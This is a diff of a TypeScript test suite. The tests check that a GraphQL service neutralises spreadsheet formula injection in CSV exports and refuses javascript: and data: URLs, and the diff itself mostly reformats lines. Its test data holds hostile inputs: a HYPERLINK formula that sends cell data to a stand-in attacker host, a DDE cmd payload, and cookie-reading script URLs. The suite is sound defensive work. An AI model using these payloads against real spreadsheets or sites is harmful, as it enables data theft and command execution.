@@ -64,7 +64,7 @@ const Source = graphql(`
 `);
 
 /** Cells Excel and LibreOffice would run as formulas (leading tab and CR are trimmed by curation). */
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-5', '@SUM(A1:A9)', '=1+2'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-5', '@SUM(A1:A9)', '=1+2'];
 const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
 
 describe('CSV exports of names an editor wrote', () => {
@@ -75,7 +75,14 @@ describe('CSV exports of names an editor wrote', () => {
       expect((await service.query(Create, { input }, editor)).body.errors).toBeUndefined();
     }
     const challenge = 'kz:challenge:abuse-and-neglect';
-    const link = { type: 'ADDRESSES' as const, from: ids[0]!, to: challenge, basis: 'EDITORIAL' as const, sources: ['src:seed-paper'], note: HOSTILE[0] };
+    const link = {
+      type: 'ADDRESSES' as const,
+      from: ids[0]!,
+      to: challenge,
+      basis: 'EDITORIAL' as const,
+      sources: ['src:seed-paper'],
+      note: HOSTILE[0],
+    };
     expect((await service.query(Link, { input: link }, editor)).body.errors).toBeUndefined();
 
     const scope = `ids=${[...ids, challenge].map(encodeURIComponent).join(',')}&lang=RU`;
@@ -95,7 +102,13 @@ describe('CSV exports of names an editor wrote', () => {
 });
 
 describe('addresses', () => {
-  const refused = ['javascript:alert(document.cookie)', 'data:text/html,<script>alert(1)</script>', 'ftp://example.org/a', 'https://exa mple.org', '//example.org/a'];
+  const refused = [
+    'javascript:alert(document.cookie)',
+    'data:text/html,<script>alert(1)</script>',
+    'ftp://example.org/a',
+    'https://exa mple.org',
+    '//example.org/a',
+  ];
 
   it.each(refused)('createEntity refuses url %j with BAD_USER_INPUT naming the field, and writes nothing', async (url) => {
     const id = test.id(`bad-${refused.indexOf(url)}`);
@@ -109,7 +122,9 @@ describe('addresses', () => {
   it('createEntity stores http and https addresses', async () => {
     for (const [i, url] of ['http://example.org/a', 'https://adilet.zan.kz/rus/docs/Z070000319_'].entries()) {
       const id = test.id(`good-${i}`);
-      expect((await service.query(Create, { input: { id, kind: 'SOURCE', name: { en: 'A source' }, url } }, editor)).body.errors).toBeUndefined();
+      expect(
+        (await service.query(Create, { input: { id, kind: 'SOURCE', name: { en: 'A source' }, url } }, editor)).body.errors,
+      ).toBeUndefined();
       expect((await service.query(Source, { id })).body.data?.node).toMatchObject({ url });
     }
   });
@@ -117,7 +132,9 @@ describe('addresses', () => {
   it('updateEntity refuses a javascript: address and leaves the entity as it was', async () => {
     const id = test.id('updated');
     const url = 'https://example.org/report';
-    expect((await service.query(Create, { input: { id, kind: 'SOURCE', name: { en: 'A report' }, url } }, editor)).body.errors).toBeUndefined();
+    expect(
+      (await service.query(Create, { input: { id, kind: 'SOURCE', name: { en: 'A report' }, url } }, editor)).body.errors,
+    ).toBeUndefined();
     const { body } = await service.query(Update, { id, set: { url: 'JavaScript:alert(1)' } }, editor);
     expect(body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'set.url' });
     expect((await service.query(Source, { id })).body.data?.node).toMatchObject({ url, version: 1 });
